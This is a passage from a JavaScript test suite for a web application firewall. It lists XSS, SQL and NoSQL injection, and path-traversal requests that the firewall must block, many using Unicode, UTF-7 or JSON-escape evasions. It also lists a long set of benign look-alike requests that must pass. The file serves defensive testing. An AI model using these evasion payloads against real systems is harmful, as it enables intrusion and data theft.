    ["/gw/open/search?q=%3C%F0%9D%90%AC%F0%9D%90%9C%F0%9D%90%AB%F0%9D%90%A2%F0%9D%90%A9%F0%9D%90%AD%3Eprompt(1)", "xss-script"],
    ["/gw/open/search?id=1+union+%C5%BFelect+password+from+users", "sqli-union"],
    ["/gw/open/search?u=%27+or+%271%27%EF%B9%A6%271", "sqli-tautology"],
    ["/gw/open/files?f=%E2%80%A5%2F%E2%80%A5%2Fapp%2F.env", "traversal-dotdot"],
    ["/gw/open/files?f=%EF%B9%92%EF%B9%92%2Fapp%2F.env", "traversal-dotdot"],
    ["/gw/open/files?f=..%EF%B9%A8..%EF%B9%A8web.config", "traversal-dotdot"],
  ];
  const bodyAttacks = [
    ["application/x-www-form-urlencoded", "name=x&comment=%3Cscript%3Esteal()%3C%2Fscript%3E", "xss-script"],
    // Starlette and Django decode a form by its charset: UTF-7 spells <script> without a <.
    ["application/x-www-form-urlencoded; charset=utf-7", "q=%2BADw-script%2BAD4-prompt(1)%2BADw-/script%2BAD4-", "body-charset"],
    ["application/json", JSON.stringify({ user: { name: "x' OR '1'='1" } }), "sqli-tautology"],
    ["application/json", JSON.stringify({ path: "../../etc/shadow" }), "traversal-dotdot"],
    ["text/plain", "1 UNION ALL SELECT secret", "sqli-union"],
    // No Content-Type: Rack (Rails, Sinatra) parses a POST's body as a form, `+` a space.
    [null, "id=1+union+select+password+from+users", "sqli-union"],
    // Escapes only a JSON parser decodes, in a body serde_json refuses (a lone surrogate) and past its depth limit.
    ["application/json", String.raw`{"x":"\udc00","bio":"\u003cscript\u003eprompt(1)\u003c/script\u003e"}`, "xss-script"],
    ["application/json", `${"[".repeat(130)}"\\u003cscript\\u003e"${"]".repeat(130)}`, "xss-script"],
    ["application/json", String.raw`{"a":"<script>prompt(1)</script>","a":"ok"}`, "xss-script"],
    // A multipart form is read part by part: a field after a binary file part is still inspected.
    ["multipart/form-data; boundary=edgekit-form", multipart("<script>prompt(1)</script>"), "xss-script"],
    // A delimiter inside a field's text is text (parsers take one at a line's start only).
    ["multipart/form-data; boundary=edgekit-form", multipart("hi --edgekit-form--<script>prompt(1)</script>"), "xss-script"],
    // Text under a binary type is read up to where a JSON parser stops too (a trailing NUL hides nothing).
    ["image/png", '{"q":"<script>prompt(1)</script>"}\0', "xss-script"],
    // JSON carried in a form field (Slack's payload=): its escapes are decoded too.
    ["application/x-www-form-urlencoded", "payload=%7B%22text%22%3A%22%5Cu003cscript%5Cu003eprompt(1)%22%7D", "xss-script"],
    // The second payload review: a script scheme where a feed reader, a Markdown renderer or a CSV import takes a URL.
    ["application/xml", "<item><link>javascript:prompt(1)</link></item>", "xss-scheme"],
    ["text/markdown", "See [the docs][x].\n\n[x]: javascript:prompt(1)", "xss-scheme"],
    ["text/csv", "name,url\nbob,javascript:prompt(1)", "xss-scheme"],
    ["text/plain", "see below.\njavascript:prompt(1)", "xss-scheme"],
    // The third payload review: where prose also writes a scheme (a line's start, after blanks) code must follow it.
    ["text/plain", "see below.\njavascript:void prompt(1)", "xss-scheme"],
    ["text/plain", "- javascript:prompt(1)", "xss-scheme"],
    // Express's qs and PHP read bracketed form keys as objects: `{password: {$ne: "x"}}`.
    ["application/x-www-form-urlencoded", "user=admin&password%5B%24ne%5D=x", "sqli-nosql"],
    // A list of paths, one a line: the second line is a path of its own.
    ["application/x-www-form-urlencoded", "files=a.txt%0D%0A..%5Csecret.txt", "traversal-dotdot"],
    // MongoDB operators as a JSON body's keys: a driver given the parsed body runs them.
    ["application/json", JSON.stringify({ user: { $ne: null }, password: { $ne: null } }), "sqli-nosql"],
    ["application/json", JSON.stringify({ $where: "this.password.length > 0" }), "sqli-nosql"],
    ["application/json", JSON.stringify({ user: "admin", password: { $regex: "^a" } }), "sqli-nosql"],
    ["application/x-www-form-urlencoded", "bio=%3Cstyle%3Ebody%7Bbackground%3Aurl(%2F%2Fx.example)%7D%3C%2Fstyle%3E", "xss-style"],
  ];
  const benign = [
    "/gw/open/search?name=O%27Brien",
    "/gw/open/search?name=D%27Angelo+O%27Neil",
    "/gw/open/search?q=Please+select+a+seat+from+the+list",
    "/gw/open/search?q=how+to+select+from+a+drop-down",
    "/gw/open/search?url=https%3A%2F%2Fexample.com%2Fdocs%3Fa%3D1%26b%3D2",
    "/gw/open/search?msg=%F0%9F%98%80%F0%9F%8E%89+party+time",
    "/gw/open/search?title=Union+Station+and+the+Table+Mountain",
    "/gw/open/search?q=1+%2B+1+%3D+2",
    "/gw/open/search?q=rock+%26+roll+or+jazz",
    "/gw/open/search?q=C%23+and+C%2B%2B",
    "/gw/open/search?email=someone%40example.com",
    "/gw/open/files/docs/guide.v2.md",
    "/gw/open/search?q=%E4%BD%A0%E5%A5%BD%E4%B8%96%E7%95%8C",
    "/gw/open/search?q=it%27s+50%25+off",
    "/gw/open/search?q=price%3C10+and+onsale%3Dtrue",
    "/gw/open/search?q=retrieval(s)+of+records",
    "/gw/open/search?q=Thanks%3B+update+me+later",
    "/gw/open/search?q=I+need+sleep(8h)+tonight",
    "/gw/open/search?q=AT%26amp%3BT+%26copy%3B+2026",
    "/gw/open/search?q=%EF%BC%88%E6%A0%AA%EF%BC%89%EF%BC%A1%EF%BC%A2%EF%BC%A3%EF%BC%81",
    // The payload review's prose: a scheme outside a URL's place, statements' verbs in sentences, CSS's old
    // expression( in a word, a quote before an attribute-like word that is no event handler.
    "/gw/open/search?q=I%27m+reading+JavaScript%3A+The+Good+Parts",
    "/gw/open/search?q=hello%3B+update+me+set+later",
    "/gw/open/search?q=patch+db%3B+shutdown+at+5pm",
    "/gw/open/search?q=Step+3%3B+insert+into+slot+B",
    "/gw/open/search?q=Regular+expression(s)+are+hard",
    "/gw/open/search?q=I%27m+5%2711%22+tall+and+online%3Dyes",
    "/gw/open/search?q=Approved%3B+grant+him+access+to+the+repo",
    "/gw/open/search?url=https%3A%2F%2Fexample.com%2Fa%2F%2Fb%2F.%2Fc",
    "/gw/open/search?q=Book+review%3A+JavaScript%3A+The+Good+Parts",
    "/gw/open/files?path=C%3A%5CUsers%5Cbob%5Cnotes.txt",
    "/gw/open/search?q=if+name+%3D%3D+%27admin%27+or+role+!%3D+guest%3A",
    "/gw/open/search?q=WHERE+name+%3D+%27bob%27+AND+age+%3E+18",
    "/gw/open/search?q=I%27d+pick+%27A%27+and+price+%3E+5",
    // The third payload review: a script scheme's name where prose puts it, words after it.
    "/gw/open/search?title=HTML+%26+JavaScript%3A+Web+Design+for+Beginners",
    "/gw/open/search?q=Meet+at+the+union+table+tennis+club",
    "/gw/open/search?q=Write+the+prompt(s)+first%2C+then+confirm(yes%2Fno)",
    "/gw/open/search?tag=union&tag=select&tag=rock",
    "/gw/open/search?q=3+drop+shots+and+a+table",
    "/gw/open/search?q=Thanks%3B+create+user+stories+for+the+sprint",
    "/gw/open/search?q=Step+2%3B+copy+the+program+to+a+USB+stick",
    // The corpus review: a filter's range, whose >= is no value's start.
    "/gw/open/search?filter=age%3E%3D18+and+age%3C%3D65",
    "/gw/open/search?q=Choose+a+colour+(select+one+from+the+list)",
    // The gaps review's refusals lifted.
    "/gw/open/search?q=Tip%3B+set+%40count+%3D+0",
    "/gw/open/search?q=we+just+waitfor+time+to+pass",
    "/gw/open/search?q=Answer+%3D+(select+1)",
    "/gw/open/search?q=it%27s+f(%27x%27)+%23+note",
    // Text beside the shapes the gaps review added: prose and code they must not take for SQL or traversal.
    "/gw/open/search?q=The+union+values+(and+protects)+its+members",
    "/gw/open/search?q=Open+the+app%3B+select+a+file+from+Downloads",
    "/gw/open/search?q=Open+Excel%3B+select+Options+from+File+menu",
    `/gw/open/search?q=${encodeURIComponent("そして．．．／次の日")}`,
    `/gw/open/search?q=${encodeURIComponent('lock = cache.get_lock("jobs", timeout=5)')}`,
    `/gw/open/search?q=${encodeURIComponent("select lower(hex(randomblob(16))) as id")}`,
    // Prose beside those shapes: no comment ends them.
    `/gw/open/search?q=${encodeURIComponent("it's 'a' or id between 1 and 2 here")}`,
    `/gw/open/search?q=${encodeURIComponent("I'd take 'x' and size in (1, 2) maybe")}`,
    `/gw/open/search?q=${encodeURIComponent("it's 'a' and len(b) > 5; then c")}`,
    `/gw/open/search?q=${encodeURIComponent("it's 'a' or score /* note */ > 0 today")}`,
    // The residual misses' review: the false positives lifted, and text beside the shapes it added.
    `/gw/open/search?q=${encodeURIComponent("see ../docs")}`,
    `/gw/open/search?q=${encodeURIComponent("Ctrl+C; delete from the list")}`,
    `/gw/open/search?q=${encodeURIComponent("'x' and len(b) > 5; # note")}`,
    `/gw/open/search?q=${encodeURIComponent("Place your order by 5pm")}`,
    `/gw/open/search?q=${encodeURIComponent("I'd like the 'family' order by 5")}`,
    `/gw/open/search?q=${encodeURIComponent("5 and 10 = 15")}`,
    `/gw/open/search?q=${encodeURIComponent("if n==1 and len(s)>5: print(s)")}`,
    `/gw/open/search?q=${encodeURIComponent("the 'name' is not null or 'N/A'")}`,
    `/gw/open/search?q=${encodeURIComponent("WHERE name = 'bob' OR email LIKE 'bob%")}`,
    `/gw/open/search?q=${encodeURIComponent("Tom's 'pizza' or name like 'Pepperoni")}`,
    // Strapi's documented filters: the operator after the field, a logical one first.
    "/gw/open/search?filters[title][$eq]=hello&filters[$or][0][slug][$eq]=x&pagination[page]=1&sort[0]=title:asc",
    // Their second review: prose beside the delete, group by and wrapped-call shapes it added.
    `/gw/open/search?q=${encodeURIComponent("Tip; delete a file from a folder")}`,
    `/gw/open/search?q=${encodeURIComponent("Then; delete the draft from the outbox")}`,
    `/gw/open/search?q=${encodeURIComponent("Please group by 5 people")}`,
    `/gw/open/search?q=${encodeURIComponent("x=1 and g(h(x))>2")}`,
    // Their third review: Strapi's operators under its `filters`, `$` in a key naming no operator, prose and code
    // beside the CASE, call and CSS shapes it added.
    "/gw/open/search?filters[$not][title][$eq]=x&filters[price][$gt]=5&populate[author][filters][name][$ne]=bob",
    "/gw/open/search?price[$]=5&sort[price]=asc&filter[category]=shoes&page[size]=20",
    `/gw/open/search?q=${encodeURIComponent("just in case when it rains then bring an umbrella else stay home, end of story")}`,
    `/gw/open/search?q=${encodeURIComponent("Page 1 and left(side)")}`,
    `/gw/open/search?q=${encodeURIComponent("Released 2024 and iif(a,b,c) explained")}`,
    `/gw/open/search?q=${encodeURIComponent("if x=1 and type(y)=='str':")}`,
    `/gw/open/search?q=${encodeURIComponent("Rated 1 and f('x') -- great")}`,
    `/gw/open/search?q=${encodeURIComponent("Follow the <style guide> please")}`,
    `/gw/open/search?q=${encodeURIComponent("paste <link here> and the <link to docs>")}`,
    `/gw/open/search?q=${encodeURIComponent("In SCSS write @import 'variables'; first")}`,
    // The fifth review's widened rules, each with the prose shape it must pass.
    `/gw/open/search?q=${encodeURIComponent("case when it rains then bring an umbrella else stay home end")}`,
    `/gw/open/search?q=${encodeURIComponent("Sort the 'sales' group by region having the most revenue")}`,
    `/gw/open/search?q=${encodeURIComponent("1 having fun")}`,
    `/gw/open/search?q=${encodeURIComponent("5 and 10 = 15")}`,
    `/gw/open/search?q=${encodeURIComponent("1 and true love")}`,
    `/gw/open/search?q=${encodeURIComponent("pick 1 and 2 in (3)")}`,
    `/gw/open/search?q=${encodeURIComponent("the `sleep` (in docs) call")}`,
    // The sixth review's widened rules, each with the prose shape it must pass.
    `/gw/open/search?q=${encodeURIComponent("the `ascii` (in docs) table")}`,
    `/gw/open/search?q=${encodeURIComponent("Regular expression (regex) tips: e\\d+")}`,
    `/gw/open/search?q=${encodeURIComponent("pick between 0 and 2 items")}`,
    `/gw/open/search?q=${encodeURIComponent("Step 1 and 1 between 0 and 2 items")}`,
    `/gw/open/search?q=${encodeURIComponent("the value is not null here")}`,
    `/gw/open/search?q=${encodeURIComponent("Page 1 and not 0 items")}`,
    `/gw/open/search?q=${encodeURIComponent("1 or not")}`,
    `/gw/open/search?q=${encodeURIComponent(`paste a <link here ${"and some more words ".repeat(20)}`)}`,
    // Numbers, null tests, quoted calls and CSS comments in ordinary text, beside those rules and their other spellings.
    `/gw/open/search?q=${encodeURIComponent("rooms 1 and 2")}&note=${encodeURIComponent("page 1 or 2")}`,
    `/gw/open/search?q=${encodeURIComponent("between 10 and 20 guests")}&n=${encodeURIComponent("10 guests between 6 and 8 pm")}`,
    `/gw/open/search?q=${encodeURIComponent("Step 1 and 1 is true to the plan")}&n=${encodeURIComponent("1 and null is null here")}`,
    `/gw/open/search?q=${encodeURIComponent("rooms 1 and not (0 or 2)")}&css=${encodeURIComponent("color: red !important")}`,
    `/gw/open/search?q=${encodeURIComponent("'sleep(8 hours)'")}&n=${encodeURIComponent("call me 'now()'")}`,
    `/gw/open/search?css=${encodeURIComponent("p { font-style: italic } /* expression */ .b { width: calc(100% - 2px) }")}`,
    // The seventh review's widened rules, each with the Strapi query or prose it must pass.
    "/gw/open/search?filters[title][$eq]=x&populate[author][filters][name][$eq]=y&filters[$or][0][a][$eq]=1&populate[blocks][on][shared.hero][filters][title][$ne]=y",
    `/gw/open/search?q=${encodeURIComponent('the "ascii" (in docs) table')}`,
    `/gw/open/search?q=${encodeURIComponent("between 1.5 and 2 hours")}&n=${encodeURIComponent("chapters 1 and 2 and 3")}`,
    `/gw/open/search?q=${encodeURIComponent("1 and 1.5 between 1 and 2 hours")}`,
    `/gw/open/search?css=${encodeURIComponent("html { scroll-behavior: smooth } body { overscroll-behavior: contain }")}`,
    // A bug report's headings before "URL(s)" in prose, and numbers with signs and chains that hold no predicate.
    `/gw/open/search?q=${encodeURIComponent("Expected behavior: URL(s) with a trailing slash redirect")}&n=${encodeURIComponent("Actual behavior: url(...) is called twice")}`,
    `/gw/open/search?q=${encodeURIComponent("Step 1 and -1 between -2 and 0 degrees")}&n=${encodeURIComponent("pages 1 and 2 and 3 are done")}`,
    // Its review: a bug report's "URL(s)" before a comma or a slash, signed prices and spreadsheet formulas.
    `/gw/open/search?q=${encodeURIComponent("Expected behavior: URL(s), query and hash preserved")}&n=${encodeURIComponent("Actual behavior: URL(s)/paths lowercased")}`,
    // JSON in a query value (Slack's `payload=`), read undecoded too: its escaped newline after "URL(s)".
    `/gw/open/search?payload=${encodeURIComponent(JSON.stringify({ body: "Expected behavior: URL(s)\nActual behavior: none" }))}`,
    `/gw/open/search?price=${encodeURIComponent("-10 and up")}&f=${encodeURIComponent("=IF(A1>-1, 1, 0)")}&list=${encodeURIComponent("- 1 and 1 is not null")}`,
    // The eighth review: prose arithmetic, phone numbers, dates, lists and quoted names beside the constants and
    // spaced quoted calls those rules now read.
    `/gw/open/search?q=${encodeURIComponent("chapters 1-2 and 3")}&n=${encodeURIComponent("rated 5-1=4 stars")}`,
    `/gw/open/search?q=${encodeURIComponent("2*3=6 or 7")}&n=${encodeURIComponent("2*3=6 and 2*4=8")}`,
    `/gw/open/search?phone=${encodeURIComponent("+1 (555) 123-4567")}&date=2024-01-01&range=${encodeURIComponent("1.2-1.4 or 2.0")}`,
    `/gw/open/search?q=${encodeURIComponent("sleep (5 hours)")}&n=${encodeURIComponent('"sleep" (5 hours)')}`,
    `/gw/open/search?q=${encodeURIComponent('the "sleep" (in docs) call')}&n=${encodeURIComponent("the `load_file` (see docs) function")}`,
    `/gw/open/search?q=${encodeURIComponent("~5 and 10")}&n=${encodeURIComponent("(1) or (2)")}&m=${encodeURIComponent("- 1 - 1 = -2")}`,
    `/gw/open/search?q=${encodeURIComponent("pick 1 and 2 in (3) and 4")}&n=${encodeURIComponent("1 and true and 1 more")}`,
    // Their review: a track's length and a year after a quoted title, a bullet before a numbered choice.
    `/gw/open/search?q=${encodeURIComponent('Track 3: "Sleep" (4:05)')}&n=${encodeURIComponent('"Benchmark" (2019, remastered)')}`,
    `/gw/open/search?q=${encodeURIComponent("- (1) or (2)")}&n=${encodeURIComponent("- (1) and (2)")}`,
    // A LaTeX/BibTeX page range and a subtraction of a negative number: the minus after a number is an operator.
    `/gw/open/search?q=${encodeURIComponent("10--20 and 30--40")}&n=${encodeURIComponent("-10--5 or 1")}&m=${encodeURIComponent("x=5--1 and 2")}`,
    // The ninth review's prose beside its rules: a hex notation, parenthesised numbers, a call on a word, a
    // spreadsheet's formula, a page's arithmetic.
    `/gw/open/search?q=${encodeURIComponent("size (1)/(2) and more")}&n=${encodeURIComponent("x'01' is a hex notation")}`,
    `/gw/open/search?q=${encodeURIComponent("ascii(art) > 64 and more")}&n=${encodeURIComponent("page 3-2=1 note")}`,
    `/gw/open/search?f=${encodeURIComponent("=LEN(MID(A1,2,3))>1")}&n=${encodeURIComponent("rooms 1 and (2)/(3) of the hall")}&m=${encodeURIComponent("elt(1=1,5) and more")}`,
    // The tenth review: a Laravel snippet (PHP's auth()->user(), not MySQL's user()), a spreadsheet's IF.
    `/gw/open/search?code=${encodeURIComponent("$hasRoles = count(auth()->user()->roles) > 0;")}&f=${encodeURIComponent("=IF(LEN(A1)>1,1,0)")}&c=${encodeURIComponent("chapters 1-2 and 3")}`,
    `/gw/open/search?q=${encodeURIComponent("1 and 2 and 3 = 6 total")}&n=${encodeURIComponent("1, 2 and 3 not in (4) list")}&m=${encodeURIComponent("(2=2)*3 is six")}`,
    // The eleventh review: a size or a count glued to its unit after a comparison, no SQL a query could run.
    `/gw/open/search?size=${encodeURIComponent("10*20 and 5=5 cm")}&dims=${encodeURIComponent("2*3 or 4=4 inches")}`,
    // The twelfth review's sweep: maths that compares names, a quote before a number, a unit glued to a decimal,
    // the look-alike slash in a ratio (they passed before its rules too: they pin how far those rules reach).
    `/gw/open/search?q=${encodeURIComponent("a or b=c")}&n=${encodeURIComponent("if a=1 or b=c then stop")}&m=${encodeURIComponent("Let x=y and y=z, then x=z")}`,
    `/gw/open/search?q=${encodeURIComponent("I like 'jazz' or '90s pop")}&n=${encodeURIComponent("size=10*20 and 5=5.0cm")}&m=${encodeURIComponent("ratio a∕b, set A ∖ B")}`,
    // Its review: settings quoted in a ticket, a `name=value` inside the text (refused by the names rule before).
    `/gw/open/search?note=${encodeURIComponent("I set debug=1 and mode=verbose")}&cfg=${encodeURIComponent("config: workers=4 and queue=redis")}`,
    // Beside the tamper sweep's rules: a range of names, a list, a percentage, an outline's `1.e`.
    `/gw/open/search?q=${encodeURIComponent("pick a date between monday and friday")}&n=${encodeURIComponent("x=1 and 2 in (len(s), len(t))")}&m=${encodeURIComponent("50% off, or 25% for members")}`,
    `/gw/open/search?q=${encodeURIComponent("see section 1.e (the sleep 1.e) of the guide")}&r=${encodeURIComponent("rate=5 or x between y and z later")}`,
    // A range of two names at a value's end is English's: a comparison's spelling names one bound twice.
    `/gw/open/search?n=${encodeURIComponent("2 or more between jan and feb")}`,
    // Percentages around a comparison: no `%` before a character, as classic ASP's dropped ones stand.
    `/gw/open/search?q=${encodeURIComponent("Shares were up 1% or 1%=1% this week")}`,
    // Beside the div/mod and whole-value arithmetic rules: prose and values with div, mod, length and database.
    `/gw/open/search?q=${encodeURIComponent("Install the mod (select 2 files from the list) and put the div 1 mod 2 rule in the grid")}&n=${encodeURIComponent("In MySQL 7 div 2 = 3 and 7 mod 2 = 1; see length(database names) div 2")}`,
    `/gw/open/search?size=${encodeURIComponent("length(database())+1 chars")}&cols=${encodeURIComponent("length(row) div 2")}&x=${encodeURIComponent("length(database()) mod 2 > 0 checks parity")}`,
    // Their review: a game's mod after its version, a grid's count, and a constant with a name (it reads nothing).
    `/gw/open/search?q=${encodeURIComponent("Install the Fabric 1.20.1 mod (select 'Fabric' from the dropdown)")}&n=${encodeURIComponent("Skyrim SE 1.6 mod (select 1 of 3 options)")}`,
    `/gw/open/search?q=${encodeURIComponent("Grid of 12 div (select 3 columns)")}&n=${encodeURIComponent("12 div (select 2 items)")}`,
    // Stop 43's WAF review: homework, spreadsheet formulas and settings with mod, div, abs( and round(.
    `/gw/open/search?q=${encodeURIComponent("Homework: 17 mod 5 = 2 and 17 div 5 = 3, so abs(-3) = 3 and round(2.5) = 3")}&f=${encodeURIComponent("=IF(MOD(LEN(A2),2)=1,\"odd\",\"even\")")}`,
    `/gw/open/search?f=${encodeURIComponent("=MOD(LEN(A1),2)=1")}&g=${encodeURIComponent("=ABS(LEN(A1))>1")}&x=${encodeURIComponent("abs(len(s))>1")}&n=${encodeURIComponent("2+length(name)>3")}`,
    // The normalisation review: a `+` kept in base64, C++, sums and tagged addresses; qs arrays; prose in NFKC's
    // compatibility characters (a Japanese two-dot ellipsis, bold letters, CJK small punctuation).
    "/gw/open/search?sig=abc%2Bdef%2Bor%2Bx1%3D%3D&q=C%2B%2B+or+C%23&email=john%2Bnews%40example.com&sum=1%2B1%3D2",
    "/gw/open/search?tags%5B0%5D=red&tags%5B1%5D=green&tags%5B2%5D=blue&tags%5B%5D=union+hall",
    `/gw/open/search?q=${encodeURIComponent("そして‥次へ。待って‥‥／")}&b=${encodeURIComponent("𝐒𝐞𝐥𝐞𝐜𝐭 𝐚 𝐬𝐞𝐚𝐭 𝐟𝐫𝐨𝐦 𝐭𝐡𝐞 𝐥𝐢𝐬𝐭")}&c=${encodeURIComponent("你好﹐世界﹒再见﹗")}`,
  ];
  const benignBodies = [
    // The twelfth review's sweep: a help-desk ticket quoting SQL, code inside JSON, an address, Markdown (passed
    // before its rules too: they pin how far those rules reach).
    ["text/plain", "Ticket #4521: SELECT * FROM orders WHERE id = 5 returns nothing since the upgrade; is 1 or 2 rows normal? Rate 4.5stars."],
    ["application/json", JSON.stringify({ code: "if (x == 1 or y == z):\n    print('yes')", note: "check len(s) > 0 and 1 in (1,2)", q: "1 or 2", m: "x=y" })],
    // A mod list and a rich-text editor's grid posted as JSON.
    ["application/json", JSON.stringify({ mods: "A 1.5 mod (select 2 files) and the Forge 1.20 mod (select * from the zip)", html: "<div class=\"grid\">Use 3 mod (select 1) for the demo</div>" })],
    ["application/x-www-form-urlencoded", `address=${encodeURIComponent("Apt. 5, 1 Main St; or c/o John O'Neil, 12 Elm Rd.")}&md=${encodeURIComponent("# Notes\n\n- item 1 or 2\n- `x = y`\n- Meet at '5pm' or '6pm'")}`],
    // JSON Schema's keywords and MongoDB's extended JSON: keys with a `$` that name no query operator.
    ["application/json", JSON.stringify({ $schema: "https://json-schema.org/draft/2020-12/schema", $id: "user", properties: { a: { $ref: "#/$defs/a" } }, $defs: { a: { type: "string" } } })],
    ["application/json", JSON.stringify({ _id: { $oid: "5f1c2a3e8b7d4c6e9a0f1d2e" }, at: { $date: "2026-01-01T00:00:00Z" }, price: "$5", op: "$gt" })],
    ["text/css", "@import url(theme.css);\n@import 'variables';\nbody { color: red }"],
    // The tenth review: a spreadsheet's formula, TRUE times a number, is no sqlmap (1234=1234)*5678.
    ["application/json", JSON.stringify({ cell: "B2", formula: "=(1=1)*1" })],
    ["text/plain", "=(2>1)*10"],
    // Code assigning a call named like the server's reads: no key's glued = before it.
    ["text/plain", "ok = len(current_user()) > 0;\nx = upper(user()) > 3;"],
    // Its review: a form's formula ordering two numbers, TRUE times 10 — sqlmap's (1234=1234)*5678 compares by = alone.
    ["application/x-www-form-urlencoded", `total=${encodeURIComponent("(2>1)*10")}`],
    // Stop 43's WAF review: a rich-text editor's HTML, a parenthesis opening with `select` after a tag's `>`, and
    // code, CSS and prose with mod, div, abs( and round(.
    ["text/html", "<span>(12)</span><div>(select an option)</div>"],
    ["application/json", JSON.stringify({ html: "<ul><li>(3)</li><li>(select 2 sizes)</li></ul><p>Pick <b>(select 1 or 2)</b></p><table><tr><td>12</td><td>(select 3 items)</td></tr></table><div>(select * that apply)</div>" })],
    ["application/x-www-form-urlencoded", `body=${encodeURIComponent("<div class=\"mod\">(select 2 mods)</div><br/>(select 1 of 3)")}`],
    ["text/plain", "Python: divmod(17, 5) == (3, 2); abs(len(s)) > 0; round(len(x) / 2) > 1\nJS: Math.abs(a.length) > 1 && Math.round(b.length / 2) >= 1\nLua: 5 % 2 == 1 and math.abs(-5) == 5"],
    ["text/css", ".grid { width: calc(100% / 3) } .a { margin: round(2.5px, 1px) } div.mod { top: abs(-1px) }"],
    ["text/plain", "Install the Skyrim mod (select 3 files); I installed 2 mods (select * from the zip); abs(12) is 12, round(2.4) is 2, mod(7,2) is 1"],
    // Its review: a tag after a number or a word whose parenthesis a closing tag follows.
    ["text/html", "<p>Price 12<div>(select 2 colors)</div></p><p>Choose <i>(select 2)</i> from the list</p><p>Step 1:<b>(select 3)</b></p>"],
    // CSS escapes decoded: a local sheet and a quote's code point stay benign.
    ["text/css", "@\\69mport url(the\\6de.css);\nq::before { content: \"\\201C\" }"],
    // System.Text.Json's and Json.NET's type discriminators and reference ids: a .NET type's name, no BSON type.
    ["application/json", JSON.stringify({ $type: "Shop.Order, Shop", $id: "1", Lines: { $id: "2", $values: [] }, Items: [{ $type: "Circle", r: 1 }] })],
    // The third payload review: a list's entry, a title, a mail's line starting with a script scheme's name.
    ["text/plain", "Skills:\n- JavaScript: 5 years\n- Python: 3 years"],
    // Markdown with relative links and code spans; a SQL snippet ordering by a column's number.
    ["application/json", JSON.stringify({ md: "## Setup\n\n1. Copy `config.example` to `../config`\n2. See [the readme](../README.md) and ../docs" })],
    ["text/plain", "```sql\nSELECT name FROM users WHERE id=1 ORDER BY 2;\n```"],
    // A rich-text field with CSS and a bug report's headings, and numeric fields beside words.
    ["application/json", JSON.stringify({ html: '<p style="scroll-behavior: smooth">Expected behavior: URL(s) keep their case</p>', qty: 1, note: "rate is 1 or 2", range: "version 1.0 between 0.9 and 2" })],
    ["application/json", JSON.stringify({ bio: "Skills:\n- JavaScript: 5 years\n- Python: 3 years" })],
    ["application/x-www-form-urlencoded", "bio=Skills%3A%0A*+JavaScript%3A+ES2020+features%0A1.+JavaScript%3A+The+Good+Parts"],
    ["text/plain", "My favourite books:\nJavaScript: The Definitive Guide"],
    ["text/plain", "Hi all,\n\nJavaScript: we agreed to drop IE11.\n"],
    ["text/plain", "Frontend stack - JavaScript: React 18"],
    ["text/plain", "Topics covered: HTML, CSS, JavaScript: all the basics"],
    ["text/plain", "* JavaScript: ES2020…\n* Topics covered: HTML, CSS, JavaScript: all…"],
    // The third payload review: 64 KiB of unclosed /* read in linear time.
    ["text/plain", "/*".repeat(32 * 1024)],
    ["application/json", JSON.stringify({ name: "Seán O'Brien", bio: "I select wines for a living; drop by!" })],
    ["application/x-www-form-urlencoded", "name=O%27Brien&comment=Great+post+%F0%9F%91%8D+see+https%3A%2F%2Fexample.org"],
    ["text/plain", "Meet me at the union hall; we will select a chair."],
    // Beside the tamper sweep's rules: help-desk prose with like, between and in (…), maths, code in JSON, Markdown.
    ["text/plain", "Ticket #88: I'd like 1 like button per post; values between min and max; growth 5%-10% (1% = 100bp); see 1.e) below."],
    ["application/json", JSON.stringify({ code: "if n in (len(a), -1):\n    return x between y and z", md: "- 2 in (1, 2, 3) is true\n- **100%** sure" })],
    ["text/plain", "Release notes\n# Fixes\n- the union -- and select boxes -- line up\nhello; update me set later"],
    // The second payload review: a statement's verb after a `;`, then more than a kilobyte of prose.
    ["text/plain", `Thanks; update coming soon. ${"We will get back to you with more details in a while, and thanks again. ".repeat(16)}`],
    ["text/plain", `Approved; grant him access when ready. ${"We will get back to you with more details in a while, and thanks again. ".repeat(16)}`],
    ["text/plain", `Thanks; update me later #soon ${"We will get back to you with more details in a while, and thanks again. ".repeat(16)}`],
    // Binary uploads: their bytes spell signatures by chance (every PNG holds NUL bytes).
    ["image/png", PNG],
    ["multipart/form-data; boundary=edgekit-form", multipart("My cat, O'Brien")],
    // Python's requests: a file part without a Content-Type.
    ["multipart/form-data; boundary=edgekit-form", new Uint8Array([...new TextEncoder().encode('--edgekit-form\r\nContent-Disposition: form-data; name="photo"; filename="cat.png"\r\n\r\n'), ...PNG, ...new TextEncoder().encode("\r\n--edgekit-form--\r\n")])],
    // .NET's MultipartFormDataContent: a quoted boundary, bare names, filename* beside filename, a labelled text field.
    [
      'multipart/form-data; boundary="5f1c2a3e-8b7d-4c6e-9a0f-1d2e3c4b5a69"',
      new Uint8Array([
        ...new TextEncoder().encode("--5f1c2a3e-8b7d-4c6e-9a0f-1d2e3c4b5a69\r\nContent-Type: image/png\r\nContent-Disposition: form-data; name=photo; filename=cat.png; filename*=utf-8''cat.png\r\n\r\n"),
        ...PNG,
        ...new TextEncoder().encode("\r\n--5f1c2a3e-8b7d-4c6e-9a0f-1d2e3c4b5a69\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Disposition: form-data; name=caption\r\n\r\nMy cat, O'Brien\r\n--5f1c2a3e-8b7d-4c6e-9a0f-1d2e3c4b5a69--\r\n"),
      ]),
    ],
  ];

  test("attacks are blocked with 403 and X-WAF-Rule, benign requests pass; both rates are reported", async () => {
    origin.reset();
    // Every case runs before anything is asserted, so the printed rates are measured (a miss does not stop the count)
    // and a failure lists every misjudged case at once.
    const misjudged = [];
    let blocked = 0;
    const judge = async (label, r, expected) => {
      const seen = { status: r.status, rule: r.headers.get("x-waf-rule"), code: r.status === 403 ? (await r.json()).error?.code : (await r.arrayBuffer(), undefined) };
      if (expected.rule !== undefined && seen.status === 403 && seen.rule) blocked += 1;
      const ok = expected.rule === undefined ? seen.status === 200 : seen.status === 403 && seen.rule === expected.rule && seen.code === "waf_blocked";
      if (!ok) misjudged.push({ case: label, expected, seen });
      return ok;
    };
    for (const [path, rule] of attacks) await judge(path, await worker.fetch(path), { rule });
    for (const [type, body, rule] of bodyAttacks) {
      // Bytes, not a string, for the untyped body: fetch types a string text/plain.
      const typed = type === null ? { headers: {}, body: new TextEncoder().encode(body) } : { headers: { "content-type": type }, body };
      await judge(body, await worker.fetch("/gw/open/submit", { method: "POST", ...typed }), { rule });
    }
    const reachedOrigin = origin.requests.length;
    let passed = 0;
    for (const path of benign) if (await judge(path, await worker.fetch(path), {})) passed += 1;
    for (const [type, body] of benignBodies) {
